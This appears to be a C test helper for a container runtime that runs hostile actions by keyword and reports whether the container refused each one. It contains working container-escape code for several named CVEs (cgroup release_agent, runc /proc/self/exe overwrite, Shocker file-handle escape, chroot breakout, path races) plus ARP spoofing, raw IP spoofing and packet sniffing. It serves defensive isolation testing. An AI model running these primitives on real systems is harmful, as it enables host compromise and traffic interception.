// What a hostile container tries, a word each; `attacks WORD ARG…` runs them in order.
//
// A line per attack: `word arg: refused (why)` or `word arg: DONE`. The words that begin with
// `naive-` are controls: the same trick against a container made carelessly, by paths, in a mount
// namespace of its own. Used by crates/oci (one shim) and by the crate tests (a whole cluster).
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *word, *arg;

static void refused(const char *why) { printf("%s %s: refused (%s)\n", word, arg, why); }
static void done(void) { printf("%s %s: DONE\n", word, arg); }
static void verdict(int bad) { if (bad) refused(strerror(errno)); else done(); }

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

// A path of the host seen from the directory `at`: whether it is there.
static int sees(const char *at, const char *marker) {
  char path[8192];
  snprintf(path, sizeof path, "%s/%s", at, marker);
  return access(path, F_OK) == 0;
}

static void read_it(void) {
  char b[4096];
  int f = open(arg, O_RDONLY | O_NONBLOCK);
  if (f < 0) { refused(strerror(errno)); return; }
  ssize_t n = read(f, b, sizeof b);
  close(f);
  if (n > 0) done(); else refused(n ? strerror(errno) : "empty");
}

static void list_it(void) {
  DIR *d = opendir(arg);
  int n = 0;
  if (!d) { refused(strerror(errno)); return; }
  while (readdir(d)) n++;
  closedir(d);
  if (n > 2) done(); else refused("empty");
}

// A device node of the host's, opened: `c:MAJOR:MINOR`.
static void node(void) {
  unsigned major = 0, minor = 0;
  char kind = 'c';
  sscanf(arg, "%c:%u:%u", &kind, &major, &minor);
  unlink("/the-node");
  if (mknod("/the-node", (kind == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(major, minor))) { refused(strerror(errno)); return; }
  int f = open("/the-node", O_RDWR);
  verdict(f < 0);
  if (f >= 0) close(f);
}

// In a child, for what cannot be taken back.
static void in_child(void (*f)(void)) {
  pid_t p = fork();
  if (!p) { f(); fflush(stdout); _exit(0); }
  waitpid(p, 0, 0);
}

static void fresh_proc(void) {
  mkdir("/m", 0755);
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID)) { refused(strerror(errno)); return; }
  pid_t p = fork();
  if (!p) { verdict(mount("proc", "/m", "proc", 0, "")); fflush(stdout); _exit(0); }
  waitpid(p, 0, 0);
}

// CVE-2022-0492: a hierarchy of one's own, and its release_agent.
static void release_agent(void) {
  mkdir("/m", 0755);
  // Without a user namespace if we may, as a privileged container.
  if (unshare(CLONE_NEWNS) && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) { refused(strerror(errno)); return; }
  if (mount("cgroup", "/m", "cgroup", 0, arg)) { refused(strerror(errno)); return; }
  verdict(open("/m/release_agent", O_WRONLY) < 0);
}

static void chroot_escape(void) {
  mkdir("/m", 0755);
  int f = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/m") || fchdir(f)) { refused(strerror(errno)); return; }
  for (int i = 0; i < 64; i++) if (chdir("..")) break;
  if (chroot(".")) { refused(strerror(errno)); return; }
  if (sees("", arg)) done(); else refused("still in the root");
}

// Shocker: a file handle of the root of the file system that a volume lies on.
static void handle_escape(const char *volume) {
  struct { struct file_handle h; unsigned char b[8]; } x = { .h = { .handle_bytes = 8, .handle_type = 1 } };
  x.b[0] = 2;
  int f = open(volume, O_RDONLY);
  int r = open_by_handle_at(f, &x.h, O_RDONLY);
  close(f);
  if (r < 0) { refused(strerror(errno)); return; }
  verdict(faccessat(r, arg + 1, F_OK, 0));
}

static void kernel_call(void) {
  long r = -1;
  errno = 0;
  if (!strcmp(arg, "kexec_load")) r = syscall(SYS_kexec_load, 0, 1L << 20, 0, 0);
  else if (!strcmp(arg, "init_module")) r = syscall(SYS_init_module, 0, 0, "");
  else if (!strcmp(arg, "delete_module")) r = syscall(SYS_delete_module, "no-such-module", O_NONBLOCK);
  else if (!strcmp(arg, "bpf")) r = syscall(SYS_bpf, 5, 0, 0);
  else if (!strcmp(arg, "swapon")) r = syscall(SYS_swapon, "/nothing", 0);
  else if (!strcmp(arg, "acct")) r = syscall(SYS_acct, "/nothing");
  else if (!strcmp(arg, "pivot_root")) r = syscall(SYS_pivot_root, "/nothing", "/nothing");
  else if (!strcmp(arg, "sethostname")) r = sethostname("taken", 5);
  else if (!strcmp(arg, "keyctl")) r = syscall(SYS_keyctl, 0, -3, 0);
  else if (!strcmp(arg, "unshare")) r = unshare(CLONE_NEWUSER);
  else { refused("unknown call"); return; }
  // Whoever hears of bad arguments was let in.
  int kept_out = r < 0 && (errno == EPERM || errno == EACCES || errno == ENOSYS);
  if (kept_out) refused(strerror(errno)); else done();
}

// CVE-2019-5736: waits for the runtime's program to run in here, takes hold of it, writes to it.
static void exe_watch(void) {
  struct stat own, other;
  stat("/proc/self/exe", &own);
  double end = now() + atof(arg);
  int f = -1;
  while (f < 0 && now() < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (f < 0 && d && (e = readdir(d))) {
      char path[64];
      if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
      snprintf(path, sizeof path, "/proc/%.20s/exe", e->d_name);
      int g = open(path, O_RDONLY | O_CLOEXEC);
      if (g < 0) continue;
      if (!fstat(g, &other) && (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) f = g; else close(g);
    }
    if (d) closedir(d);
  }
  if (f < 0) { refused("nothing seen"); return; }
  char b[4] = "", path[64];
  pread(f, b, 4, 0);
  printf("taken: %s, %ld bytes\n", memcmp(b, "\177ELF", 4) ? "something" : "a program", (long)other.st_size);
  snprintf(path, sizeof path, "/proc/self/fd/%d", f);
  usleep(200000);
  verdict(open(path, O_WRONLY | O_TRUNC) < 0);
}

// What other processes in /proc give away of a place that is not ours.
static void peek(const char *marker) {
  double end = now() + atof(arg);
  long looked = 0;
  while (now() < end) {
    DIR *d = opendir("/proc"), *fds;
    struct dirent *e, *g;
    while (d && (e = readdir(d))) {
      char path[512];
      if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
      for (int k = 0; k < 2; k++) {
        snprintf(path, sizeof path, "/proc/%.20s/%s", e->d_name, k ? "cwd" : "root");
        looked++;
        if (sees(path, marker)) { printf("through %s\n", k ? "cwd" : "root"); done(); return; }
      }
      snprintf(path, sizeof path, "/proc/%.20s/fd", e->d_name);
      if (!(fds = opendir(path))) continue;
      while ((g = readdir(fds))) {
        snprintf(path, sizeof path, "/proc/%.20s/fd/%.20s", e->d_name, g->d_name);
        if (g->d_name[0] != '.' && sees(path, marker)) { puts("through a descriptor"); done(); return; }
      }
      closedir(fds);
    }
    if (d) closedir(d);
  }
  refused(looked ? "nothing seen" : "nothing there");
}

static void descriptors(void) {
  for (int f = 3; f < 1024; f++) {
    char path[64], to[4096];
    snprintf(path, sizeof path, "/proc/self/fd/%d", f);
    ssize_t n = readlink(path, to, sizeof to - 1);
    if (n > 0) { to[n] = 0; printf("descriptor %d: %s\n", f, to); }
  }
}

static void keyring_put(void) {
  verdict(syscall(SYS_add_key, "user", "transom-test", arg, strlen(arg), -3) < 0);
}

static void keyring_get(void) {
  char b[256] = "";
  long key = syscall(SYS_keyctl, 10, -3, "user", "transom-test", 0);
  if (key < 0 || syscall(SYS_keyctl, 11, key, b, sizeof b) < 0) { refused(strerror(errno)); return; }
  if (!strcmp(b, arg)) done(); else refused("another key");
}

// Exchanges two names for ever, as fast as it goes.
static void swap(const char *other) {
  for (;;) syscall(SYS_renameat2, AT_FDCWD, arg, AT_FDCWD, other, 2);
}

// Whether a file, or the start of a process, holds TEXT (given with a | in it, so that our own
// words do not).
static int holds(const char *path, const char *text) {
  static char b[1 << 20];
  int f = open(path, O_RDONLY | O_NONBLOCK | O_NOFOLLOW), hit = 0;
  if (f < 0) return 0;
  ssize_t n = read(f, b, sizeof b);
  if (n > 0 && memmem(b, n, text, strlen(text))) hit = 1;
  close(f);
  return hit;
}

static int walk(const char *dir, const char *text, int depth) {
  DIR *d = opendir(dir);
  struct dirent *e;
  int hit = 0;
  while (d && !hit && (e = readdir(d))) {
    char path[4096];
    struct stat s;
    snprintf(path, sizeof path, "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(path, "/sys") || lstat(path, &s)) continue;
    int number = e->d_name[0] >= '0' && e->d_name[0] <= '9';
    if (!strcmp(dir, "/proc")) {
      static const char *const FILES[] = { "environ", "cmdline", "mountinfo", "cgroup", "net/unix", "maps" };
      for (int k = 0; number && k < 6 && !hit; k++) {
        char file[8192];
        snprintf(file, sizeof file, "%s/%s", path, FILES[k]);
        hit = holds(file, text);
      }
    } else if (S_ISDIR(s.st_mode) && depth < 40) hit = walk(path, text, depth + 1);
    else if (S_ISREG(s.st_mode)) hit = holds(path, text);
    if (hit && S_ISREG(s.st_mode)) printf("in %s\n", path);
  }
  if (d) closedir(d);
  return hit;
}

static void find(void) {
  char text[256];
  int n = 0;
  for (const char *p = arg; *p && n < 255; p++) if (*p != '|') text[n++] = *p;
  text[n] = 0;
  if (walk("/", text, 0)) done(); else refused("nowhere");
}

static void processes(void) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  int n = 0;
  while (d && (e = readdir(d))) n += e->d_name[0] >= '0' && e->d_name[0] <= '9';
  if (n > atoi(arg)) done(); else refused("only our own");
}

// Abstract sockets of whoever shares our network.
static void abstract_sockets(void) {
  char line[4096];
  FILE *f = fopen("/proc/net/unix", "r");
  int found = 0;
  while (f && fgets(line, sizeof line, f)) if (strstr(line, " @")) { fputs(line, stdout); found = 1; }
  if (found) done(); else refused("none");
}

// ---- packets ----

static unsigned short sum(const void *p, int n) {
  const unsigned char *b = p;
  unsigned s = 0;
  for (int i = 0; i < n; i += 2) s += b[i] << 8 | b[i + 1];
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return htons(~s);
}

static int packets(int *index, unsigned char *own) {
  int f = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  struct ifreq r = { 0 };
  strcpy(r.ifr_name, "eth0");
  if (f < 0 || ioctl(f, SIOCGIFINDEX, &r)) return -1;
  *index = r.ifr_ifindex;
  ioctl(f, SIOCGIFHWADDR, &r);
  memcpy(own, r.ifr_hwaddr.sa_data, 6);
  struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = *index };
  return bind(f, (void *)&a, sizeof a) ? -1 : f;
}

// The hardware address behind the default route: what our own packets go to.
static void gateway(unsigned char *to) {
  char line[512];
  FILE *f = fopen("/proc/net/arp", "r");
  memset(to, 0xff, 6);
  while (f && fgets(line, sizeof line, f)) {
    unsigned x[6];
    char ip[64], hw[64];
    if (sscanf(line, "%63s %*s %*s %63s", ip, hw) == 2 && sscanf(hw, "%x:%x:%x:%x:%x:%x", x, x + 1, x + 2, x + 3, x + 4, x + 5) == 6)
      for (int i = 0; i < 6; i++) to[i] = x[i];
  }
  if (f) fclose(f);
}

// A datagram FROM:PORT > TO:PORT past the own stack: `spoof FROM TO PORT TEXT`.
static void spoof(const char *to, const char *port, const char *text) {
  int index;
  unsigned char own[6], frame[512] = { 0 };
  int f = packets(&index, own);
  if (f < 0) { refused(strerror(errno)); return; }
  struct iphdr *ip = (void *)(frame + 14);
  struct udphdr *udp = (void *)(frame + 34);
  int n = strlen(text);
  gateway(frame);
  memcpy(frame + 6, own, 6);
  frame[12] = 8;
  ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = 17;
  ip->tot_len = htons(28 + n);
  ip->saddr = inet_addr(arg); ip->daddr = inet_addr(to);
  ip->check = sum(ip, 20);
  udp->source = htons(4444); udp->dest = htons(atoi(port)); udp->len = htons(8 + n);
  memcpy(frame + 42, text, n);
  verdict(send(f, frame, 42 + n, 0) < 0);
}

// Says in ARP that ADDRESS is here, to everyone, in all forms.
static void arp_spoof(void) {
  int index;
  unsigned char own[6], frame[42] = { 0 };
  int f = packets(&index, own);
  if (f < 0) { refused(strerror(errno)); return; }
  in_addr_t a = inet_addr(arg);
  for (int k = 0; k < 20; k++) {
    memset(frame, 0xff, 6);
    memcpy(frame + 6, own, 6);
    memcpy(frame + 12, "\x08\x06\x00\x01\x08\x00\x06\x04\x00", 9);
    frame[21] = 1 + k % 2;
    memcpy(frame + 22, own, 6); memcpy(frame + 28, &a, 4);
    memcpy(frame + 32, own, 6); memcpy(frame + 38, &a, 4);
    send(f, frame, 42, 0);
    usleep(20000);
  }
  done();
}

// Every packet on the wire for SECONDS that holds TEXT.
static void sniff(const char *text) {
  int index, n;
  unsigned char own[6];
  static char frame[65536];
  int f = packets(&index, own);
  if (f < 0) { refused(strerror(errno)); return; }
  puts("ready");
  double end = now() + atof(arg);
  while (now() < end) {
    struct pollfd p = { f, POLLIN, 0 };
    if (poll(&p, 1, 100) > 0 && (n = recv(f, frame, sizeof frame, 0)) > 0 && memmem(frame, n, text, strlen(text))) { done(); return; }
  }
  refused("nothing heard");
}

static void udp_send(const char *port, const char *text) {
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(atoi(port)), .sin_addr.s_addr = inet_addr(arg) };
  verdict(sendto(socket(AF_INET, SOCK_DGRAM, 0), text, strlen(text), 0, (void *)&a, sizeof a) < 0);
}

// Prints what arrives at PORT for ever: `heard TEXT from ADDRESS`.
static void udp_listen(void) {
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(atoi(arg)) };
  int f = socket(AF_INET, SOCK_DGRAM, 0);
  bind(f, (void *)&a, sizeof a);
  puts("ready");
  for (;;) {
    char b[512], from[64];
    socklen_t l = sizeof a;
    ssize_t n = recvfrom(f, b, sizeof b - 1, 0, (void *)&a, &l);
    if (n < 0) return;
    b[n] = 0;
    inet_ntop(AF_INET, &a.sin_addr, from, sizeof from);
    printf("heard %s from %s\n", b, from);
  }
}

// ---- controls ----

// CVE-2024-21626 in a runtime that leaks a directory: the root is changed, then the working
// directory is set to what the image says.
static void naive_cwd(const char *marker) {
  char path[8192];
  snprintf(path, sizeof path, "%s/proc", arg);
  mkdir(path, 0755);
  if (unshare(CLONE_NEWNS) || mount(0, "/", 0, MS_REC | MS_PRIVATE, 0) || mount("proc", path, "proc", 0, 0)) { refused(strerror(errno)); return; }
  int leaked = open("/", O_RDONLY | O_DIRECTORY);
  snprintf(path, sizeof path, "/proc/self/fd/%d", leaked);
  if (chroot(arg) || chdir(path)) { refused(strerror(errno)); return; }
  if (sees(".", marker)) done(); else refused("not there");
}

// CVE-2025-31133 and CVE-2025-52565 in a runtime that binds by path: ROOT/dev/NAME is a link of the
// image to a file of the kernel; what was to cover ROOT/covered opens it.
static void naive_bind(const char *name) {
  char from[8192], to[8192];
  struct stat s;
  snprintf(from, sizeof from, "%s/dev/%s", arg, name);
  snprintf(to, sizeof to, "%s/covered", arg);
  close(open(to, O_CREAT | O_WRONLY, 0644));
  if (unshare(CLONE_NEWNS | CLONE_NEWUTS) || mount(0, "/", 0, MS_REC | MS_PRIVATE, 0) || mount(from, to, 0, MS_BIND, 0)) { refused(strerror(errno)); return; }
  int f = open(to, O_WRONLY);
  verdict(f < 0 || fstat(f, &s) || S_ISCHR(s.st_mode) || write(f, "taken", 5) != 5);
}

// The first of two: a place is looked at, then used by its name (CVE-2021-30465).
static void naive_target(const char *marker) {
  char real[8192];
  for (int k = 0; k < 200000; k++) {
    struct stat s;
    if (lstat(arg, &s) || !S_ISDIR(s.st_mode)) continue;
    if (sees(arg, marker) && realpath(arg, real)) { done(); return; }
  }
  refused("never in 200000");
}

int main(int c, char **v) {
  setvbuf(stdout, 0, _IONBF, 0);
  for (int i = 1; i < c; i += 2) {
    word = v[i];
    arg = i + 1 < c ? v[i + 1] : "";
    const char *third = i + 2 < c ? v[i + 2] : "", *fourth = i + 3 < c ? v[i + 3] : "", *fifth = i + 4 < c ? v[i + 4] : "";
    if (!strcmp(word, "echo")) puts(arg);
    else if (!strcmp(word, "sleep")) sleep(atoi(arg));
    else if (!strcmp(word, "read")) read_it();
    else if (!strcmp(word, "list")) list_it();
    else if (!strcmp(word, "write")) { int f = open(arg, O_WRONLY); verdict(f < 0); if (f >= 0) close(f); }
    else if (!strcmp(word, "create")) { int f = open(arg, O_WRONLY | O_CREAT, 0644); verdict(f < 0); if (f >= 0) close(f); }
    else if (!strcmp(word, "replace")) { char b[4096]; snprintf(b, sizeof b, "%s.new", arg); unlink(b); verdict(symlink("/etc/passwd", b) || rename(b, arg)); }
    else if (!strcmp(word, "there")) { verdict(access(arg, F_OK)); }
    else if (!strcmp(word, "node")) node();
    else if (!strcmp(word, "mount")) verdict(mount("x", arg, "tmpfs", 0, ""));
    else if (!strcmp(word, "remount")) verdict(mount(0, arg, 0, MS_REMOUNT | MS_BIND, 0));
    else if (!strcmp(word, "uncover")) verdict(umount2(arg, MNT_DETACH));
    else if (!strcmp(word, "fresh-proc")) in_child(fresh_proc);
    else if (!strcmp(word, "release-agent")) in_child(release_agent);
    else if (!strcmp(word, "chroot")) in_child(chroot_escape);
    else if (!strcmp(word, "handle")) { handle_escape(third); i++; }
    else if (!strcmp(word, "call")) in_child(kernel_call);
    else if (!strcmp(word, "exe-watch")) exe_watch();
    else if (!strcmp(word, "peek")) { peek(third); i++; }
    else if (!strcmp(word, "descriptors")) { descriptors(); i--; }
    else if (!strcmp(word, "keyring-put")) keyring_put();
    else if (!strcmp(word, "keyring-get")) keyring_get();
    else if (!strcmp(word, "swap")) { puts("ready"); swap(third); }
    else if (!strcmp(word, "abstract")) abstract_sockets();
    else if (!strcmp(word, "find")) find();
    else if (!strcmp(word, "processes")) processes();
    else if (!strcmp(word, "arp")) arp_spoof();
    else if (!strcmp(word, "spoof")) { spoof(third, fourth, fifth); i += 3; }
    else if (!strcmp(word, "sniff")) { sniff(third); i++; }
    else if (!strcmp(word, "udp")) { udp_send(third, fourth); i += 2; }
    else if (!strcmp(word, "udp-listen")) udp_listen();
    else if (!strcmp(word, "naive-cwd")) { naive_cwd(third); i++; }
    else if (!strcmp(word, "naive-bind")) { naive_bind(third); i++; }
    else if (!strcmp(word, "naive-target")) { naive_target(third); i++; }
    else printf("unknown word %s\n", word);
  }
  return 0;
}
